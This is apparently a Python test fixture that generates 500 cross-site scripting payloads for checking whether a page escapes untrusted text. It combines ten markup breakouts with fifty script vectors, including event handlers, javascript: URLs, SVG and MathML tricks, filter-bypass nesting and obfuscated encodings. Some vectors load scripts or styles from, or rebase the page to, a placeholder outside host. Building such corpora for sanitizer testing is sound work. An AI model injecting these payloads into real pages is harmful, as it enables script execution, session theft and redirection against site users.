"""500 texts that would run as scripts if they came onto a page as markup.

Ten ways out of where a text stands, fifty scripts each. A script that runs calls `alert`; markup
that becomes markup has an attribute that is looked for, whether it runs or not.
"""

from __future__ import annotations

OUT = (
    "",
    '">',
    "'>",
    "-->",
    "]]>",
    "</textarea>",
    "</title></option></select>",
    "</script></style>",
    '" injected onfocus="alert(1)" autofocus x="',
    "' injected onmouseover='alert(1)' x='",
)
SCRIPTS = (
    "<script injected>alert(1)</script>",
    "<ScRiPt injected >alert(1)</sCrIpT>",
    "<script injected src=//injected.example/x.js></script>",
    "<script injected src=data:text/javascript,alert(1)></script>",
    "<scr<script injected>ipt>alert(1)</scr</script>ipt>",
    "<img injected src=x onerror=alert(1)>",
    "<img injected src=x onerror=&#97;lert(1)>",
    "<img injected src=//injected.example/x.png>",
    "<img/injected/src='x'/onerror=alert(1)>",
    "<IMG injected SRC=javascript:alert(1)>",
    "<svg injected onload=alert(1)>",
    "<svg injected><script>alert(1)</script></svg>",
    "<svg injected><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg injected><a xlink:href=javascript:alert(1)><text x=20 y=20>x</text></a></svg>",
    "<svg injected><use href=data:image/svg+xml,<svg/onload=alert(1)>></svg>",
    "<svg injected><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<math injected><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math injected href=javascript:alert(1)>x</math>",
    "<iframe injected src=javascript:alert(1)></iframe>",
    "<iframe injected srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object injected data=javascript:alert(1)></object>",
    "<embed injected src=javascript:alert(1)>",
    "<a injected href=javascript:alert(1)>more</a>",
    "<a injected href=java&#10;script:alert(1)>more</a>",
    "<a injected href=data:text/html,<script>alert(1)</script>>more</a>",
    "<body injected onload=alert(1)>",
    "<body injected onpageshow=alert(1)>",
    "<details injected open ontoggle=alert(1)><summary>x</summary></details>",
    "<input injected autofocus onfocus=alert(1)>",
    "<select injected autofocus onfocus=alert(1)></select>",
    "<textarea injected autofocus onfocus=alert(1)></textarea>",
    "<button injected formaction=javascript:alert(1) form=f>go</button>",
    "<form injected action=javascript:alert(1) id=f><input type=submit></form>",
    "<form injected action=//injected.example/><input name=forgery></form>",
    "<video injected src=x onerror=alert(1)></video>",
    "<video injected><source onerror=alert(1)></video>",
    "<audio injected src=x onerror=alert(1)></audio>",
    "<marquee injected onstart=alert(1)>x</marquee>",
    "<style injected>*{background:url(//injected.example/)}</style>",
    "<style injected onload=alert(1)></style>",
    "<link injected rel=stylesheet href=//injected.example/x.css onload=alert(1)>",
    "<meta injected http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base injected href=//injected.example/>",
    "<template injected><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img injected src=x onerror=alert(1)>'></noscript>",
    "<xss injected onfocus=alert(1) tabindex=1 autofocus>",
    "<p injected style=background:url(//injected.example/)>x</p>",
    "{{ ''.__class__.__mro__ }}<img injected src=x onerror=alert(1)>{% raw %}",
    "\u2028<img injected src=x onerror=alert(1)>\u202e",
    "\x1b]8;;javascript:alert(1)\x07<img injected src=x onerror=alert(1)>",
)


def payloads() -> list[str]:
    """All 500, each another."""
    return [f"{out}{script}" for out in OUT for script in SCRIPTS]


def ways() -> list[str]:
    """Each script, and each way out, at least once."""
    return [*SCRIPTS, *(f"{out}{SCRIPTS[0]}" for out in OUT[1:])]
